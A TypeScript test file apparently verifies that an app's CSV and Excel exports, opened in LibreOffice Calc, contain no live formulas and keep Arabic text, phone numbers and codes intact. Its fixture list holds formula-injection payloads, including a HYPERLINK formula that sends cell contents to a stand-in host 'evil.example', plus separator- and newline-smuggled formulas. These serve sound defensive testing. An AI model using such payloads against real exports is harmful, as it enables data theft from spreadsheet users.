import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { toCsv } from '@/src/list/export/csv';
import type { CsvColumn } from '@/src/list/export/columns';
import { toXlsx } from '@/src/list/export/xlsx';
import { openInCalc as calcSheet, soffice } from '../support/calc';

// LibreOffice Calc (Debian's libreoffice-calc-nogui) opens the exports as a person would: with its default
// CSV import, formulas evaluated. A developer without it is told so; CI installs it (.ci/run) and must run this.

const ARABIC = 'قهوة عربية';
const HOSTILE = [
  'a;=1+1;b',
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  '+1',
  '-1+2',
  '@SUM(1)',
  '\r=1+1',
  '\n=1+1',
  'a\r\n=1+1',
  'a\t=1+1',
  '\t=1+1',
  'x,=1+1',
  'a; =1+1',
  'a;"=1+1"',
  'say "hi";=1+1',
  '＝1+1',
  ARABIC,
];

interface Row {
  id: string;
  text: string;
  amount: number;
}

// The hostile text as the first cell of a line, between two other cells, and beside a negative number.
const columns: CsvColumn<Row>[] = [
  { label: 'Text', value: (row) => row.text },
  { label: 'Id', value: (row) => row.id },
  { label: 'Again', value: (row) => row.text },
  { label: 'Amount', value: (row) => row.amount },
];
const rows: Row[] = HOSTILE.map((text, index) => ({ id: `r${index}`, text, amount: -5 }));

// LibreOffice's CSV filter options: separator, text delimiter ("), character set (76 = UTF-8), first line.
const SEPARATORS = { comma: 44, semicolon: 59, tab: 9 } as const;

let work: string | undefined;
afterAll(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

/** This run's own folder, with its own LibreOffice profile: parallel runs do not clash. */
async function workDir(): Promise<string> {
  work ??= await mkdtemp(join(tmpdir(), 'csv-calc-'));
  return work;
}

/** Opens a file in Calc (with an import filter's options, or as its extension says) and returns the sheet as flat ODF XML. */
async function calc(input: string, filter?: string): Promise<string> {
  return calcSheet(input, await workDir(), filter);
}

/** Opens the same CSV once with each separator and returns each sheet as flat ODF XML. */
async function openInCalc(csv: string): Promise<Record<keyof typeof SEPARATORS, string>> {
  const dir = await workDir();
  const sheets = {} as Record<keyof typeof SEPARATORS, string>;
  // One soffice at a time per profile.
  for (const [name, code] of Object.entries(SEPARATORS) as [keyof typeof SEPARATORS, number][]) {
    const input = join(dir, `${name}.csv`);
    await writeFile(input, csv, 'utf8');
    sheets[name] = await calc(input, `CSV:${code},34,76,1`);
  }
  return sheets;
}

const inCi = Boolean(process.env.CI);
if (!soffice && !inCi)
  console.warn(
    'csvSpreadsheet.test.ts: skipped, LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui',
  );

describe.skipIf(!soffice && !inCi)('a CSV export opened in LibreOffice Calc', () => {
  it('gives no formula and keeps Arabic text whole, whether the sheet splits on comma, semicolon or tab', async () => {
    expect(
      soffice,
      'LibreOffice (soffice) must be installed on CI: apt-get install libreoffice-calc-nogui',
    ).toBeDefined();
    const sheets = await openInCalc(toCsv(rows, columns));
    for (const [separator, xml] of Object.entries(sheets)) {
      const formulas = [...xml.matchAll(/table:formula="([^"]*)"/g)].map((match) => match[1]);
      expect(formulas, `formulas with ${separator} as the separator`).toEqual([]);
      // Split on ; or tab, a whole comma-separated line is one cell: the Arabic is whole inside it.
      expect(xml, `Arabic with ${separator} as the separator`).toMatch(
        new RegExp(`<text:p>[^<]*${ARABIC}[^<]*</text:p>`),
      );
    }
    // Read as the file is written, every value stays in its own cell and the numbers stay numbers.
    const comma = sheets.comma;
    expect(comma).toContain(`<text:p>${ARABIC}</text:p>`);
    expect(comma.match(/<table:table-row\b/g)).toHaveLength(rows.length + 1);
    expect(comma.match(/office:value-type="float" office:value="-5"/g)).toHaveLength(rows.length);
  }, 120_000);
});

describe.skipIf(!soffice && !inCi)('an Excel export opened in LibreOffice Calc', () => {
  it('shows phones, codes and formula-like text as the text they are, with no apostrophe, and numbers as numbers; no formula', async () => {
    expect(soffice, 'LibreOffice (soffice) must be installed on CI').toBeDefined();
    const PHONE = '+966547317224';
    const texts = [PHONE, '00123', '_x0041_', ...HOSTILE];
    const sheetRows: Row[] = texts.map((text, index) => ({ id: `r${index}`, text, amount: -5 }));
    const blob = await toXlsx(sheetRows, columns, { name: 'exports' });
    const input = join(await workDir(), 'export.xlsx');
    await writeFile(input, new Uint8Array(await blob.arrayBuffer()));
    // Calc writes this sheet indented: the markup between elements is left out.
    const xml = (await calc(input)).replace(/>\s+</g, '><');

    expect([...xml.matchAll(/table:formula="([^"]*)"/g)].map((match) => match[1])).toEqual([]);
    const textCell = (text: string) =>
      `office:value-type="string" calcext:value-type="string"><text:p>${text
        .replace(/&/g, '&amp;')
        .replace(/"/g, '&quot;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')}</text:p>`;
    // Each text twice (first and third column): as text, exactly as written, with no apostrophe.
    for (const text of [
      PHONE,
      '00123',
      '_x0041_',
      '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
      '@SUM(1)',
      '-1+2',
      '+1',
      ARABIC,
    ])
      expect(xml.split(textCell(text)), text).toHaveLength(3);
    expect(xml).not.toContain(`'${PHONE}`);
    expect(xml.match(/office:value-type="float" office:value="-5"/g)).toHaveLength(sheetRows.length);
    expect(xml.match(/<table:table-row\b/g)).toHaveLength(sheetRows.length + 1);
  }, 120_000);
});
